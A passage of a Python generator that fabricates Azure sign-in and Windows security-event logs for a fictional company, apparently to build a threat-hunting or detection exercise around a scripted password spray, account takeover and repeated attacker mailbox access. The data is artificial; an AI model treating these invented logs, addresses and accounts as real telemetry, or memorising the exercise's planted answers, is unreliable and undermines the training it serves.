    return hex(RNG.randrange(lo, hi))


def iso(t, digits=7):
    """ISO text of ticks t with a fixed number of fraction digits (used inside JSON payloads)."""
    secs, frac = divmod(t, TPS)
    base = (EPOCH + timedelta(seconds=secs)).strftime("%Y-%m-%dT%H:%M:%S")
    if digits == 0:
        return base + "Z"
    return f"{base}.{str(frac).zfill(7)[:digits]}Z"


def fmt_ts(t):
    """A datetime cell: mostly 7 fraction digits, some 3, some none (as Log Analytics data varies)."""
    r = RNG.random()
    return iso(t, 7 if r < 0.80 else 3 if r < 0.92 else 0)


def weekday(t):
    return (EPOCH + timedelta(seconds=t // TPS)).weekday()


WORK_HOURS = [(7, 2), (8, 8), (9, 10), (10, 10), (11, 9), (12, 5), (13, 8), (14, 10), (15, 9), (16, 8), (17, 4),
              (18, 2), (19, 1), (20, 1), (21, 1), (22, 0.5)]


def work_time(tz_hours=0, weekend_weight=0.22, lo=START_T + 5 * MINUTE, hi=END_T - TPS):
    """A time in someone's working hours (local time = UTC + tz_hours); weekends are quieter."""
    while True:
        k = RNG.randrange(0, DAYS + 2)
        local_midnight = END_T - k * DAY - tz_hours * HOUR
        wd = (0 - k) % 7                       # END (2024-01-15) is a Monday
        if wd >= 5 and RNG.random() > weekend_weight:
            continue
        hour = wpick(WORK_HOURS)
        t = local_midnight + hour * HOUR + RNG.randrange(HOUR)
        if lo <= t <= hi:
            return t


def any_time(lo=START_T + MINUTE, hi=END_T - TPS):
    return RNG.randrange(lo, hi)


def ip_in(prefix_a, prefix_b):
    return f"{prefix_a}.{prefix_b}.{RNG.randrange(1, 255)}.{RNG.randrange(1, 255)}"


STORY_IPS = set(SPRAY_IPS) | {C2_IP, TRAVEL_IP, PUBLIC_WEB_IP, PUBLIC_SSH_IP} | {v[0] for v in OFFICE.values()}


def internet_ip():
    """A random public IPv4 address that is none of the story's addresses."""
    while True:
        a = pick([5, 23, 31, 37, 46, 62, 77, 78, 89, 91, 94, 103, 109, 112, 117, 118, 122, 125, 139, 141, 159,
                  162, 167, 170, 176, 178, 179, 181, 186, 188, 190, 195, 197, 201, 212, 213, 217, 222])
        ip = f"{a}.{RNG.randrange(0, 256)}.{RNG.randrange(0, 256)}.{RNG.randrange(1, 255)}"
        if ip not in STORY_IPS:
            return ip


TABLES = {name: [] for name in TABLE_ORDER}


def emit(table, t, **cells):
    """Adds one row (a dict of column -> value; datetimes as ticks) to `table`."""
    assert START_T <= t <= END_T, (table, iso(t))
    cells["TimeGenerated"] = t
    cells.setdefault("TenantId", WORKSPACE_ID)
    cells["Type"] = table
    cells["_t"] = t
    TABLES[table].append(cells)
    return cells


# ---------------------------------------------------------------------------------------------------------------
# People
# ---------------------------------------------------------------------------------------------------------------

def build_users():
    users, used_ips = {}, set()
    for i, (first, last, dept, country, admin, os_name) in enumerate(PEOPLE):
        key = f"{first.lower()}.{last.lower()}"
        prefix, asn = pick(HOME_PREFIXES[country])
        while True:
            home_ip = f"{prefix}.{RNG.randrange(1, 255)}.{RNG.randrange(0, 256)}.{RNG.randrange(1, 255)}"
            if home_ip not in used_ips and home_ip not in STORY_IPS:
                break
        used_ips.add(home_ip)
        subnet = DEPT_SUBNET[dept] if country == "US" else LONDON_SUBNET
        ws = next((c for c in WORKSTATIONS if c[5] == key), None)
        internal = ws[1] if ws else f"10.0.{subnet}.{40 + i * 3}"
        browser = ("Safari", "17.2") if os_name == "MacOs" else pick([("Chrome", "120.0.0"), ("Edge", "120.0.2210")])
        users[key] = {
            "key": key, "first": first, "last": last, "dept": dept, "country": country, "admin": admin,
            "upn": f"{key}@{DOMAIN}", "display": f"{first} {last}", "sam": (first[0] + last).lower(),
            "account": f"{NETBIOS}\\{(first[0] + last).lower()}", "id": guid(), "sid": f"{DOMAIN_SID}-{1104 + i}",
            "puid": "1003" + "".join(RNG.choice("0123456789ABCDEF") for _ in range(12)),
            "tz": -8 if country == "US" else 0, "os": os_name, "browser": browser,
            "home_ip": home_ip, "home_asn": asn, "home_city": pick(HOME_CITIES[country]),
            "mobile_ip": ip_in(*MOBILE_PREFIX[country]), "internal_ip": internal,
            "workstation": ws[0] if ws else None, "device_id": guid(),
            "mailbox_guid": guid(),
        }
    return users


USERS = build_users()
USER_LIST = [USERS[f"{p[0].lower()}.{p[1].lower()}"] for p in PEOPLE]
VICTIM = USERS["mike.jones"]
ADMINS = [u for u in USER_LIST if u["admin"]]
ENGINEERS = [u for u in USER_LIST if u["dept"] == "Engineering"]


def location(ip, user=None, city=None):
    """(country code, LocationDetails object) for an address."""
    if ip in SPRAY_IPS:
        cc, city, state, lat, lon, _ = SPRAY_IPS[ip]
    else:
        if city is None:
            city = user["home_city"] if user else "Seattle"
        state, cc, lat, lon = CITIES[city]
    return cc, {"city": city, "state": state, "countryOrRegion": cc,
                "geoCoordinates": {"latitude": lat, "longitude": lon}}


def user_agent(os_name, browser):
    if os_name == "MacOs":
        return ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                "Version/17.2 Safari/605.1.15")
    base = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 " \
           "Safari/537.36"
    return base + (" Edg/120.0.0.0" if browser[0] == "Edge" else "")


ATTACKER_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
SPRAY_UA = "python-requests/2.31.0"


# ---------------------------------------------------------------------------------------------------------------
# SigninLogs
# ---------------------------------------------------------------------------------------------------------------

SIGNIN_ERRORS = {
    "0": "",
    "50126": "Invalid username or password or Invalid on-premise username or password.",
    "50140": "This error occurred due to 'Keep me signed in' interrupt when the user was signing in.",
    "50074": "Strong Authentication is required.",
    "50055": "The password is expired.",
    "50199": "For security reasons, user confirmation is required for this request.",
    "53003": "Access has been blocked by Conditional Access policies. The access policy does not allow token issuance.",
    "50097": "Device authentication is required.",
}
CA_POLICY = {"id": "6b3b9a4e-0c8f-4b1e-9a53-2d1c7f0e8a11", "displayName": "CA001: Require MFA for all users",
             "enforcedGrantControls": ["Mfa"], "enforcedSessionControls": [], "result": "success"}


def signin(t, user, app, ip, result="0", client_app="Browser", ua=None, device=None, loc=None, interactive=True,
           mfa=False, ca_status="success", risk=None, asn="", protocol="none"):
    app_id, resource = APPS[app]
    cc, loc_details = loc if loc else location(ip, user)
    status = {"errorCode": int(result)}
    if result != "0":
        status["failureReason"] = SIGNIN_ERRORS[result]
    elif mfa:
        status["additionalDetails"] = "MFA requirement satisfied by claim in the token"
    req_id = guid()
    risk = risk or {}
    emit("SigninLogs", t,
         AADTenantId=AAD_TENANT_ID, AppDisplayName=app, AppId=app_id,
         AuthenticationProtocol=protocol,
         AuthenticationRequirement="multiFactorAuthentication" if mfa else "singleFactorAuthentication",
         AutonomousSystemNumber=asn, Category="SignInLogs", ClientAppUsed=client_app,
         ConditionalAccessPolicies=dyn([dict(CA_POLICY, result=("success" if ca_status == "success" else
                                                                 "notApplied" if ca_status == "notApplied" else
                                                                 "failure"))]),
         ConditionalAccessStatus=ca_status, CorrelationId=guid(), CreatedDateTime=t,
         DeviceDetail=dyn(device if device is not None else
                          {"deviceId": "", "operatingSystem": user["os"],
                           "browser": f"{user['browser'][0]} {user['browser'][1]}"}),
         DurationMs=RNG.choice([0, 0, 0, RNG.randrange(40, 900)]), FlaggedForReview=False,
         HomeTenantId=AAD_TENANT_ID, Id=req_id, Identity=user["display"], IPAddress=ip,
         IsInteractive=interactive, IsRisky=bool(risk), Level="4", Location=cc, LocationDetails=dyn(loc_details),
         MfaDetail=dyn({"authMethod": "Mobile app notification", "authDetail": None}) if mfa and result == "0"
         else None,
         OperationName="Sign-in activity", OperationVersion="1.0", OriginalRequestId=req_id,
         ProcessingTimeInMilliseconds=str(RNG.randrange(40, 400)), Resource="Microsoft.aadiam",
         ResourceDisplayName=resource, ResourceGroup="Microsoft.aadiam",
         ResourceId=f"/tenants/{AAD_TENANT_ID}/providers/Microsoft.aadiam", ResourceProvider="Microsoft.aadiam",
         ResourceTenantId=AAD_TENANT_ID, ResultDescription=SIGNIN_ERRORS[result], ResultSignature="None",
         ResultType=result, RiskDetail=risk.get("detail", "none"),
         RiskEventTypes=dyn(risk.get("events_v1", [])), RiskEventTypes_V2=dyn(risk.get("events", [])),
         RiskLevelAggregated=risk.get("level", "none"), RiskLevelDuringSignIn=risk.get("level", "none"),
         RiskState=risk.get("state", "none"), SignInIdentifier=user["upn"], SignInIdentifierType="UserPrincipalName",
         SourceSystem="Azure AD", Status=dyn(status), TokenIssuerName="", TokenIssuerType="AzureAD",
         UserAgent=ua if ua is not None else user_agent(user["os"], user["browser"]),
         UserDisplayName=user["display"], UserId=user["id"], UserPrincipalName=user["upn"], UserType="Member")


def user_public_ip(user, t):
    """Where a user's traffic comes from at time t: (ip, asn, city, mobile?)."""
    if user["key"] == TRAVELLER and END_T + TRAVEL_DAYS[0] * DAY <= t < END_T + (TRAVEL_DAYS[1] + 1) * DAY:
        return TRAVEL_IP, "577", "Toronto", RNG.random() < 0.3
    local_hour = ((t // HOUR) + user["tz"]) % 24
    workday = weekday(t + user["tz"] * HOUR) < 5 and 8 <= local_hour < 18
    r = RNG.random()
    if r < 0.12:
        return user["mobile_ip"], "21928" if user["country"] == "US" else "12576", user["home_city"], True
    if workday and r < 0.70:
        ip, city, asn = OFFICE[user["country"]]
        return ip, asn, city, False
    return user["home_ip"], user["home_asn"], user["home_city"], False


BENIGN_APPS = [("Office 365 Exchange Online", 28), ("Microsoft Teams", 22), ("SharePoint Online", 14),
               ("OfficeHome", 8), ("Microsoft Office", 10), ("Windows Sign In", 10),
               ("Microsoft Authentication Broker", 4)]


def gen_signinlogs(n_benign=2900):
    # Benign sign-ins in working hours.
    for _ in range(n_benign):
        user = pick(USER_LIST)
        t = work_time(user["tz"])
        apps = list(BENIGN_APPS)
        if user["dept"] in ("IT", "Engineering"):
            apps += [("Azure Portal", 12), ("Azure CLI", 6)]
        app = wpick(apps)
        ip, asn, city, mobile = user_public_ip(user, t)
        if mobile:
            ios = "Ios 17.2.1"
            device = {"deviceId": "", "operatingSystem": ios, "browser": "Mobile Safari 17.2"}
            if app in ("Microsoft Teams", "Office 365 Exchange Online"):
                ua = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_2_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
                      "Gecko) Mobile/15E148 " + ("Teams/6.1.0" if app == "Microsoft Teams" else "Outlook-iOS/4.2402"))
                client = "Mobile Apps and Desktop clients"
            else:
                ua = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_2_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
                      "Gecko) Version/17.2 Mobile/15E148 Safari/604.1")
                client = "Browser"
        else:
            managed = {"deviceId": user["device_id"], "operatingSystem": user["os"],
                       "browser": f"{user['browser'][0]} {user['browser'][1]}",
                       "isCompliant": True, "isManaged": True,
                       "trustType": "Hybrid Azure AD joined" if user["os"] != "MacOs" else "Azure AD registered"}
            device = managed
            if app in ("Microsoft Office", "Windows Sign In", "Microsoft Authentication Broker", "Azure CLI") or \
                    (app == "Microsoft Teams" and RNG.random() < 0.7):
                client = "Mobile Apps and Desktop clients"
                device = dict(managed, browser="Rich Client 4.56.0.0")
                ua = {"Azure CLI": "python/3.11.5 (Windows-10-10.0.19045-SP0) AZURECLI/2.55.0 (MSI)",
                      "Windows Sign In": "Windows-AzureAD-Authentication-Provider/1.0",
                      }.get(app, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                                 "Chrome/114.0.5735.289 Electron/25.9.3 Safari/537.36")
            else:
                client = "Browser"
                ua = user_agent(user["os"], user["browser"])
        result = wpick([("0", 93), ("50140", 2), ("50074", 2), ("50126", 1.2), ("50199", 1), ("50055", 0.2),
                        ("53003", 0.4 if mobile else 0), ("50097", 0.2)])
        mfa = result == "0" and (ip != OFFICE[user["country"]][0] or RNG.random() < 0.25)
        signin(t, user, app, ip, result=result, client_app=client, ua=ua, device=device,
               loc=location(ip, user, city), interactive=True, mfa=mfa,
               ca_status="failure" if result == "53003" else "success" if result == "0" else "notApplied",
               asn=asn)

    # The password spray: 3 IPs x 10 accounts x 2 rounds, one success.
    targets = [USERS[k] for k in SPRAY_TARGETS]
    ips = list(SPRAY_IPS)
    attempts = []
    for round_no, (lo, hi) in enumerate([(SPRAY_START, SPRAY_ROUND1_END), (SPRAY_ROUND2_START, SPRAY_LAST)]):
        for ip in ips:
            order = targets[:]
            RNG.shuffle(order)
            times = sorted(RNG.randrange(lo + 20 * TPS, hi - 20 * TPS) for _ in order)
            for user, t in zip(order, times):
                if round_no == 1 and ip == ATTACKER_IP and user is VICTIM:
                    t = SPRAY_SUCCESS
                attempts.append((t, ip, user))
    attempts.sort(key=lambda a: a[0])
    # pin the first and last failures to the documented times
    attempts[0] = (SPRAY_START,) + attempts[0][1:]
    last = max(i for i, a in enumerate(attempts) if a[0] != SPRAY_SUCCESS)
    attempts[last] = (SPRAY_LAST,) + attempts[last][1:]
    attempts.sort(key=lambda a: a[0])
    spray_device = {"deviceId": "", "operatingSystem": "Linux", "browser": "Python Requests 2.31"}
    for t, ip, user in attempts:
        ok = t == SPRAY_SUCCESS
        signin(t, user, "Azure Active Directory PowerShell", ip, result="0" if ok else "50126",
               client_app="Mobile Apps and Desktop clients", ua=SPRAY_UA, device=spray_device,
               ca_status="notApplied", asn=SPRAY_IPS[ip][5], protocol="ropc",
               risk={"level": "medium", "state": "atRisk", "detail": "none",
                     "events": ["anonymizedIPAddress", "unfamiliarFeatures"],
                     "events_v1": ["anonymizedIPAddress", "unlikelyTravel"]} if ok else None)
        if not ok:
            security_event_4625_spray(t + RNG.randrange(2 * TPS, 14 * TPS) // 10, ip, user)
    security_event_4624_spray(SPRAY_SUCCESS + 6 * TPS // 10)

    # Post-compromise sign-ins from the attacker's IP.
    attacker_device = {"deviceId": "", "operatingSystem": "Linux", "browser": "Firefox 115.0"}
    risky = {"level": "medium", "state": "atRisk", "detail": "none", "events": ["anonymizedIPAddress"],
             "events_v1": ["anonymizedIPAddress"]}
    signin(OWA_SIGNIN, VICTIM, "Office 365 Exchange Online", ATTACKER_IP, ua=ATTACKER_UA, device=attacker_device,
           ca_status="notApplied", asn=SPRAY_IPS[ATTACKER_IP][5], risk=risky)
    signin(PORTAL_SIGNIN, VICTIM, "Azure Portal", ATTACKER_IP, ua=ATTACKER_UA, device=attacker_device,
           ca_status="notApplied", asn=SPRAY_IPS[ATTACKER_IP][5], risk=risky)
    for t in ATTACKER_MAIL_SESSIONS:
        signin(t, VICTIM, "Office 365 Exchange Online", ATTACKER_IP, ua=ATTACKER_UA, device=attacker_device,
               ca_status="notApplied", asn=SPRAY_IPS[ATTACKER_IP][5], risk=risky)


def attacker_mail_sessions():
    """The attacker returns to the mailbox from 185.220.101.45 every ~6 hours until the end of the data."""
    out, t = [], INBOX_RULE + 6 * HOUR
    while t < END_T - 20 * MINUTE:
        out.append(t)
        t += RNG.randrange(5 * HOUR, 7 * HOUR)
    return out


ATTACKER_MAIL_SESSIONS = attacker_mail_sessions()


# ---------------------------------------------------------------------------------------------------------------
# SecurityEvent
# ---------------------------------------------------------------------------------------------------------------

EVENT_TEXT = {
    4624: "4624 - An account was successfully logged on.",
    4625: "4625 - An account failed to log on.",
    4634: "4634 - An account was logged off.",
    4672: "4672 - Special privileges assigned to new logon.",
    4688: "4688 - A new process has been created.",
}
EVENT_TASK = {4624: 12544, 4625: 12544, 4634: 12545, 4672: 12548, 4688: 13312}
LOGON_TYPE_NAME = {2: "2 - Interactive", 3: "3 - Network", 4: "4 - Batch", 5: "5 - Service", 7: "7 - Unlock",
                   10: "10 - RemoteInteractive", 11: "11 - CachedInteractive"}
LOGON_METHOD = {   # logon type -> (LogonProcessName, AuthenticationPackageName)
    2: ("User32 ", "Negotiate"), 3: ("Kerberos", "Kerberos"), 4: ("Advapi  ", "Negotiate"),
    5: ("Advapi  ", "Negotiate"), 7: ("User32 ", "Negotiate"), 10: ("User32 ", "Negotiate"),
    11: ("User32 ", "Negotiate"),
}
ADMIN_PRIVILEGES = "\r\n\t\t\t".join([
    "SeSecurityPrivilege", "SeBackupPrivilege", "SeRestorePrivilege", "SeTakeOwnershipPrivilege",
    "SeDebugPrivilege", "SeSystemEnvironmentPrivilege", "SeLoadDriverPrivilege", "SeImpersonatePrivilege",
    "SeDelegateSessionUserImpersonatePrivilege", "SeEnableDelegationPrivilege"])
SYSTEM_PRIVILEGES = "\r\n\t\t\t".join([
    "SeAssignPrimaryTokenPrivilege", "SeTcbPrivilege", "SeSecurityPrivilege", "SeTakeOwnershipPrivilege",
    "SeLoadDriverPrivilege", "SeBackupPrivilege", "SeRestorePrivilege", "SeDebugPrivilege", "SeAuditPrivilege",
    "SeSystemEnvironmentPrivilege", "SeImpersonatePrivilege", "SeDelegateSessionUserImpersonatePrivilege"])
SERVICE_ACCOUNTS = {   # sam -> (sid, description)
    "svc-backup": (f"{DOMAIN_SID}-1301", "nightly file-server backup"),
    "svc-sql": (f"{DOMAIN_SID}-1302", "SQL reporting service"),
    "svc-scanner": (f"{DOMAIN_SID}-1303", "scan-to-folder on the office printer (its password expired)"),
}
SYSTEM = ("SYSTEM", "NT AUTHORITY", "S-1-5-18")


def short(host):
    return host.split(".")[0]


PIDS = {}


def pid_of(host, image, t):
    """A long-running process keeps its process id on a host for the day."""
    key = (host, image.lower(), t // DAY)
    if key not in PIDS:
        PIDS[key] = hex(RNG.randrange(0x200, 0x4000) & ~3)
    return PIDS[key]


def se(t, computer, eid, account, **cells):
    name = account.split("\\")[-1]
    emit("SecurityEvent", t, Account=account, AccountType="Machine" if name.endswith("$") else "User",
         Activity=EVENT_TEXT[eid], Channel="Security", Computer=computer, EventID=eid,
         EventSourceName="Microsoft-Windows-Security-Auditing", Keywords="0x8010000000000000" if eid == 4625
         else "0x8020000000000000", Level="16" if eid == 4625 else "8", ManagementGroupName=f"AOI-{WORKSPACE_ID}",
         SourceComputerId=COMPUTER_IDS[computer], SourceSystem="OpsManager", Task=EVENT_TASK[eid],
         Version=2 if eid in (4624, 4688) else 0 if eid in (4625, 4634, 4672) else None, **cells)


def logon(t, computer, target, logon_type, ip="-", port="-", workstation="-", duration=None, privileged=False,
          process="C:\\Windows\\System32\\lsass.exe"):
    """4624 (+4672 for privileged accounts) and, `duration` ticks later, the matching 4634."""
    user_name, user_domain, user_sid = target
    logon_id = hexid()
    lproc, lpkg = LOGON_METHOD[logon_type]
    if logon_type == 3 and ip.startswith(("185.", "45.", "193.")):
        lproc, lpkg = "NtLmSsp ", "NTLM"
    account = f"{user_domain}\\{user_name}"
    se(t, computer, 4624, account, TargetUserName=user_name, TargetDomainName=user_domain, TargetUserSid=user_sid,
       TargetAccount=account, TargetLogonId=logon_id, LogonType=logon_type,
       LogonTypeName=LOGON_TYPE_NAME[logon_type], LogonProcessName=lproc, AuthenticationPackageName=lpkg,
       LmPackageName="NTLM V2" if lpkg == "NTLM" else "-", KeyLength=128 if lpkg == "NTLM" else 0,
       IpAddress=ip, IpPort=port, WorkstationName=workstation, SubjectUserName=f"{short(computer)}$" if logon_type
       in (2, 5, 7, 10, 11, 4) else "-", SubjectDomainName=NETBIOS if logon_type in (2, 5, 7, 10, 11, 4) else "-",
       SubjectUserSid="S-1-5-18" if logon_type in (2, 5, 7, 10, 11, 4) else "S-1-0-0",
       SubjectLogonId="0x3e7" if logon_type in (2, 5, 7, 10, 11, 4) else "0x0", ProcessName=process,
       ProcessId=pid_of(computer, process, t), ElevatedToken="%%1842" if privileged or user_name == "SYSTEM" else "%%1843",
       VirtualAccount="%%1843", RestrictedAdminMode="-" if logon_type != 10 else "%%1843",
       TargetLinkedLogonId="0x0", TargetLogonGuid="{00000000-0000-0000-0000-000000000000}")
    if privileged:
        se(t + RNG.randrange(1, 50000), computer, 4672, account, SubjectUserName=user_name,
           SubjectDomainName=user_domain, SubjectUserSid=user_sid, SubjectLogonId=logon_id, SubjectAccount=account,
           PrivilegeList=SYSTEM_PRIVILEGES if user_name == "SYSTEM" else ADMIN_PRIVILEGES)
    if duration is not None and t + duration <= END_T:
        se(t + duration, computer, 4634, account, TargetUserName=user_name, TargetDomainName=user_domain,
           TargetUserSid=user_sid, TargetAccount=account, TargetLogonId=logon_id, LogonType=logon_type,
           LogonTypeName=LOGON_TYPE_NAME[logon_type])
    return logon_id


def failed_logon(t, computer, user_name, logon_type, ip, sub_status="0xc000006a", workstation="-",
                 process="C:\\Windows\\System32\\lsass.exe", lproc=None, lpkg=None):
    account = f"{NETBIOS}\\{user_name}"
    dp, dk = LOGON_METHOD[logon_type]
    se(t, computer, 4625, account, TargetUserName=user_name, TargetDomainName=NETBIOS, TargetUserSid="S-1-0-0",
       TargetAccount=account, LogonType=logon_type, LogonTypeName=LOGON_TYPE_NAME[logon_type],
       LogonProcessName=lproc or dp, AuthenticationPackageName=lpkg or dk, LmPackageName="-", KeyLength=0,
       IpAddress=ip, IpPort="0" if ip != "-" else "-", WorkstationName=workstation,
       Status="0xc000006d", SubStatus=sub_status, FailureReason="%%2313",
       SubjectUserName=f"{short(computer)}$", SubjectDomainName=NETBIOS, SubjectUserSid="S-1-5-18",
       SubjectLogonId="0x3e7", ProcessName=process, ProcessId=pid_of(computer, process, t))


PTA_AGENT = ("C:\\Program Files\\Microsoft Azure AD Connect Authentication Agent\\"
             "AzureADConnectAuthenticationAgentService.exe")


def security_event_4625_spray(t, ip, user):
    """The spray's failures also show on SRV-DC01, where the pass-through authentication agent validates them."""
    failed_logon(t, DC, user["sam"], 3, ip, process=PTA_AGENT, lproc="NtLmSsp ", lpkg="NTLM")


def security_event_4624_spray(t):
    logon(t, DC, (VICTIM["sam"], NETBIOS, VICTIM["sid"]), 3, ip=ATTACKER_IP, port="0", duration=2 * TPS,
          process=PTA_AGENT)


def process(t, computer, subject, image, cmdline, parent, elevated=False, label=None, logon_id=None, pid=None,
            parent_pid=None):
    """A 4688 process-creation event. `subject` is (name, domain, sid)."""
    name, domain, sid = subject
    account = f"{domain}\\{name}"
    if label is None:
        label = "S-1-16-16384" if name == "SYSTEM" else "S-1-16-12288" if elevated else "S-1-16-8192"
    se(t, computer, 4688, account, SubjectUserName=name, SubjectDomainName=domain, SubjectUserSid=sid,
       SubjectLogonId=logon_id or ("0x3e7" if name == "SYSTEM" else hexid()), SubjectAccount=account,
       NewProcessId=pid or hex(RNG.randrange(0x400, 0x8000) & ~3), NewProcessName=image, Process=image.split("\\")[-1],
       CommandLine=cmdline, ParentProcessName=parent, ProcessId=parent_pid or pid_of(computer, parent, t),
       TokenElevationType="%%1936" if name == "SYSTEM" else "%%1937" if elevated else "%%1938",
       MandatoryLabel=label, TargetUserName="-", TargetDomainName="-", TargetUserSid="S-1-0-0",
       TargetLogonId="0x0")


def subj(user):
    return (user["sam"], NETBIOS, user["sid"])


# Benign command lines --------------------------------------------------------------------------------------------
PF = "C:\\Program Files"
PFX = "C:\\Program Files (x86)"
SYS32 = "C:\\Windows\\System32"
PS_EXE = SYS32 + "\\WindowsPowerShell\\v1.0\\powershell.exe"
CHROME = PF + "\\Google\\Chrome\\Application\\chrome.exe"
EDGE = PFX + "\\Microsoft\\Edge\\Application\\msedge.exe"
OFFICE16 = PF + "\\Microsoft Office\\root\\Office16"
EXPLORER = "C:\\Windows\\explorer.exe"

ADMIN_SCRIPTS = [   # benign -EncodedCommand payloads from management tooling and admins
    "Get-WmiObject -Class Win32_LogicalDisk | Select-Object DeviceID,FreeSpace,Size | ConvertTo-Json -Compress",
    "Restart-Service -Name W32Time -Force; w32tm /resync /force",
    "Get-ChildItem -Path C:\\Windows\\Temp -Recurse | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-14) }"
    " | Remove-Item -Force -Recurse -ErrorAction SilentlyContinue",
    "Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5 | ConvertTo-Json -Compress",
]


def user_processes(user):
    """(image, command line, parent, weight) a user's working day is made of."""
    home = f"C:\\Users\\{user['sam']}"
    docs = {"Finance": "Budget FY24.xlsx", "HR": "Onboarding checklist.docx", "IT": "Server inventory.xlsx",
            "Engineering": "Release plan.docx", "Sales": "Pipeline Q1.xlsx", "Executive": "Board deck.pptx",
            "Marketing": "Campaign plan.docx", "Legal": "NDA template.docx"}[user["dept"]]
    office_app = {"xlsx": "EXCEL.EXE", "docx": "WINWORD.EXE", "pptx": "POWERPNT.EXE"}[docs.rsplit(".", 1)[1]]
    items = [
        (CHROME, f'"{CHROME}" ', EXPLORER, 6),
        (CHROME, f'"{CHROME}" --type=renderer --lang=en-US --renderer-client-id={RNG.randrange(5, 90)} '
                 f'--mojo-platform-channel-handle={RNG.randrange(2000, 9000)} /prefetch:1', CHROME, 10),
        (CHROME, f'"{CHROME}" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US '
                 f'--service-sandbox-type=none /prefetch:8', CHROME, 3),
        (EDGE, f'"{EDGE}" --single-argument https://contoso.sharepoint.com/sites/{user["dept"]}', EXPLORER, 2),
        (OFFICE16 + "\\OUTLOOK.EXE", f'"{OFFICE16}\\OUTLOOK.EXE" ', EXPLORER, 3),
        (OFFICE16 + "\\" + office_app, f'"{OFFICE16}\\{office_app}" "{home}\\Documents\\{docs}"', EXPLORER, 3),
        (home + "\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
         f'"{home}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=renderer --autoplay-policy='
         'no-user-gesture-required --lang=en-US /prefetch:1', home + "\\AppData\\Local\\Microsoft\\Teams\\current\\"
                                                                  "Teams.exe", 4),
        (SYS32 + "\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
         SYS32 + "\\svchost.exe", 3),
        (SYS32 + "\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
         SYS32 + "\\cmd.exe", 1),
        (SYS32 + "\\notepad.exe", f'"C:\\Windows\\system32\\NOTEPAD.EXE" {home}\\Desktop\\notes.txt', EXPLORER, 1),
        (SYS32 + "\\cmd.exe", 'C:\\Windows\\system32\\cmd.exe /c "\\\\contoso.com\\NETLOGON\\logon.bat"',
         SYS32 + "\\userinit.exe", 1),
        (SYS32 + "\\net.exe", f"net  use S: \\\\SRV-FS01\\{user['dept']} /persistent:yes", SYS32 + "\\cmd.exe", 1),
        (EXPLORER, "C:\\Windows\\Explorer.EXE", SYS32 + "\\userinit.exe", 1),
    ]
    if user["dept"] == "IT":
        items += [
            (SYS32 + "\\cmd.exe", "cmd.exe /c ipconfig /all", EXPLORER, 2),
            (SYS32 + "\\ipconfig.exe", "ipconfig  /all", SYS32 + "\\cmd.exe", 2),
            (PS_EXE, f'"{PS_EXE}" ', EXPLORER, 2),
            (SYS32 + "\\mstsc.exe", '"C:\\Windows\\system32\\mstsc.exe" /v:SRV-DC01.contoso.com', EXPLORER, 1),
            (SYS32 + "\\nslookup.exe", "nslookup  SRV-FS01.contoso.com", SYS32 + "\\cmd.exe", 1),
            (SYS32 + "\\gpupdate.exe", "gpupdate  /force", SYS32 + "\\cmd.exe", 1),
            (PF + "\\PuTTY\\putty.exe", f'"{PF}\\PuTTY\\putty.exe" -ssh jmiller@lnx-web-01', EXPLORER, 1),
        ]
    if user["dept"] == "Engineering":
        code = home + "\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"
        items += [
            (code, f'"{code}" ', EXPLORER, 3),
            (PF + "\\Git\\cmd\\git.exe", '"C:\\Program Files\\Git\\cmd\\git.exe" pull --ff-only origin main', code, 3),
            (PF + "\\Git\\cmd\\git.exe", '"C:\\Program Files\\Git\\cmd\\git.exe" status -z -uall', code, 4),
            (PF + "\\Git\\cmd\\git.exe", '"C:\\Program Files\\Git\\cmd\\git.exe" fetch --prune', code, 2),
            (PF + "\\nodejs\\node.exe", '"C:\\Program Files\\nodejs\\node.exe" node_modules\\vite\\bin\\vite.js '
                                        'build', SYS32 + "\\cmd.exe", 2),
            (PFX + "\\Microsoft SDKs\\Azure\\CLI2\\python.exe",
             f'"{PFX}\\Microsoft SDKs\\Azure\\CLI2\\python.exe" -IBm azure.cli vm list -g rg-web-prod -o table',
             SYS32 + "\\cmd.exe", 1),
        ]
    return items


SYSTEM_PROCESSES = [   # (image, command line, parent, weight) run as SYSTEM on every Windows host
    (SYS32 + "\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
     SYS32 + "\\services.exe", 4),
    (SYS32 + "\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k LocalService -p -s EventSystem",
     SYS32 + "\\services.exe", 2),
    (SYS32 + "\\svchost.exe", "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s ClipSVC",
     SYS32 + "\\services.exe", 2),
    (SYS32 + "\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv",
     SYS32 + "\\services.exe", 3),
    (SYS32 + "\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
     SYS32 + "\\svchost.exe", 4),
    (SYS32 + "\\taskhostw.exe", "taskhostw.exe Install $(Arg0)", SYS32 + "\\svchost.exe", 2),
    (SYS32 + "\\msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", SYS32 + "\\services.exe", 1),
    (SYS32 + "\\msiexec.exe", 'C:\\Windows\\system32\\msiexec.exe /i "C:\\Windows\\ccmcache\\1f\\'
                              'GoogleChromeStandaloneEnterprise64.msi" /qn ALLUSERS=1 REBOOT=ReallySuppress',
